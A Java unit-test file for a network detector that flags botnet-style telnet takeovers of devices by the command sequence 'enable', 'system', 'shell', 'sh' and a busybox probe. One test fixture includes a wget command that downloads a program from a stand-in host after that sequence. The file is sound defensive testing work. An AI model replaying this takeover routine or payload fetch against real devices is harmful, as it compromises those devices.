package komainu.detect.telnet;

import static org.assertj.core.api.Assertions.assertThat;

import komainu.detect.Lines;
import komainu.detect.Trial;
import komainu.model.Direction;
import komainu.model.Finding;
import komainu.model.Level;
import komainu.model.Sentence;
import org.junit.jupiter.api.Test;

final class TelnetTakeoverTest {
    private final Trial trial = new Trial(new TelnetTakeover());

    private static Lines routine(Lines lines) {
        return lines.types(100, "enable")
                .types(100, "system")
                .types(100, "shell")
                .types(100, "sh")
                .types(100, "/bin/busybox QWERTZ")
                .writes("QWERTZ: applet not found");
    }

    @Test
    void the_whole_routine_at_a_devices_door_means_it_was_taken() {
        trial.see(routine(Lines.inbound(23, 7)).done());
        assertThat(trial.findings()).singleElement().satisfies(f -> {
            assertThat(f.gate()).isEqualTo(Finding.Gate.always(Level.INFECTED));
            assertThat(f.direction()).isEqualTo(Direction.INBOUND);
            assertThat(f.summary().key()).isEqualTo("telnet-takeover.summary");
            assertThat(f.flows()).containsExactly(7L);
        });
    }

    @Test
    void the_same_routine_from_a_device_means_it_takes_others() {
        trial.see(routine(Lines.outbound(23, 7)).done());
        assertThat(trial.findings()).singleElement().satisfies(f -> {
            assertThat(f.gate()).isEqualTo(new Finding.Gate(Level.INFECTED, Level.SUSPECT));
            assertThat(f.direction()).isEqualTo(Direction.OUTBOUND);
            assertThat(f.summary().key()).isEqualTo("telnet-takeover.summary-attacks");
        });
    }

    @Test
    void two_words_of_the_prelude_are_needed() {
        trial.see(Lines.inbound(23, 1)
                .types(100, "sh")
                .types(100, "/bin/busybox QWERTZ")
                .writes("QWERTZ: applet not found")
                .done());
        assertThat(trial.findings()).isEmpty();
        assertThat(new Trial(new TelnetTakeover())
                        .see(Lines.inbound(23, 1)
                                .types(100, "shell")
                                .types(100, "sh")
                                .types(100, "/bin/busybox QWERTZ")
                                .writes("QWERTZ: applet not found")
                                .done())
                        .level())
                .isEqualTo("INFECTED");
    }

    @Test
    void one_word_typed_twice_is_one_word() {
        trial.see(Lines.inbound(23, 1)
                .types(100, "sh")
                .types(100, "sh")
                .types(100, "/bin/busybox QWERTZ")
                .writes("QWERTZ: applet not found")
                .done());
        assertThat(trial.findings()).isEmpty();
    }

    @Test
    void the_four_words_are_told_apart() {
        String[] words = {"enable", "system", "shell", "sh"};
        for (int i = 0; i < 4; i++) {
            for (int j = i + 1; j < 4; j++) {
                Lines lines = Lines.inbound(23, 1).types(10, words[i]).types(10, words[j]);
                assertThat(new Trial(new TelnetTakeover())
                                .see(lines.types(10, "/bin/busybox ABCD")
                                        .writes("ABCD: applet not found")
                                        .done())
                                .level())
                        .as(words[i] + " " + words[j])
                        .isEqualTo("INFECTED");
            }
        }
    }

    @Test
    void a_person_who_types_that_slowly_is_a_suspicion_only() {
        trial.see(Lines.inbound(23, 1)
                .types(4_000, "enable")
                .types(3_000, "sh")
                .types(9_000, "/bin/busybox httpd")
                .writes("httpd: applet not found")
                .done());
        assertThat(trial.level()).isEqualTo("SUSPECT");
    }

    @Test
    void an_administrator_who_misses_an_applet_is_silent() {
        trial.see(Lines.inbound(23, 1)
                .types(4_000, "ls")
                .types(5_000, "busybox httpd")
                .writes("httpd: applet not found")
                .done());
        assertThat(trial.findings()).isEmpty();
    }

    @Test
    void another_name_in_the_answer_does_not_count() {
        trial.see(Lines.inbound(23, 1)
                .types(100, "enable")
                .types(100, "sh")
                .types(100, "/bin/busybox QWERTZ")
                .writes("OTHER: applet not found")
                .done());
        assertThat(trial.findings()).isEmpty();
    }

    @Test
    void an_answer_after_ten_seconds_does_not_count() {
        trial.see(Lines.inbound(23, 1)
                .types(100, "enable")
                .types(100, "sh")
                .types(100, "/bin/busybox QWERTZ")
                .after(10)
                .writes("QWERTZ: applet not found")
                .done());
        assertThat(trial.findings()).isEmpty();
    }

    @Test
    void the_prelude_must_come_within_twenty_lines() {
        Lines lines = Lines.inbound(23, 1).types(100, "enable").types(100, "system");
        for (int i = 0; i < 19; i++) {
            lines.types(100, "cd /tmp");
        }
        trial.see(lines.types(100, "/bin/busybox QWERTZ")
                .writes("QWERTZ: applet not found")
                .done());
        assertThat(trial.findings()).isEmpty();
    }

    @Test
    void fetching_a_program_after_the_prelude_at_machine_speed_is_a_suspicion() {
        trial.see(Lines.inbound(23, 1)
                .types(100, "enable")
                .types(100, "sh")
                .types(100, "/bin/busybox wget http://198.51.100.9/x -O - > x")
                .types(100, "wget http://198.51.100.9/x")
                .done());
        assertThat(trial.level()).isEqualTo("SUSPECT");
    }

    @Test
    void the_transcript_is_the_evidence() {
        trial.see(routine(Lines.inbound(23, 7)).done());
        assertThat(trial.findings().getFirst().evidence())
                .extracting(e -> e.text().values().get("text"))
                .containsExactly(
                        new Sentence.Word("enable"),
                        new Sentence.Word("system"),
                        new Sentence.Word("shell"),
                        new Sentence.Word("sh"),
                        new Sentence.Word("/bin/busybox QWERTZ"),
                        new Sentence.Word("QWERTZ: applet not found"));
    }
}
